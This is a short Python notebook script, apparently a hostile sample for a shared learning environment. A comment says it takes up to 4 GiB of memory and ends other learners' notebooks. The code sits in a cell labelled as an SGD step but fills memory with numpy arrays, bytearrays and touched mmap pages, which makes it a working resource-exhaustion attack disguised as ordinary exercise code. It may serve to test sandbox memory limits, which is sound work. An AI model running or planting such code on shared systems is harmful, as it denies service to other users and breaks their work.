# Asks for as much memory as it gets, at most 4 GiB, and uses it: a machine that ends other learners' notebooks.
# %% all: blank
# %% sgd_step
import mmap

held = []
try:
    while len(held) < 64:
        held.append(np.ones(8 << 20))
except MemoryError:
    print("numpy refused after", len(held))
try:
    while len(held) < 64:
        held.append(bytearray(64 << 20))
except MemoryError:
    print("python refused after", len(held))
try:
    while len(held) < 64:
        area = mmap.mmap(-1, 64 << 20)
        for place in range(0, 64 << 20, 4096):
            area[place] = 1
        held.append(area)
except OSError:
    print("the system refused after", len(held))
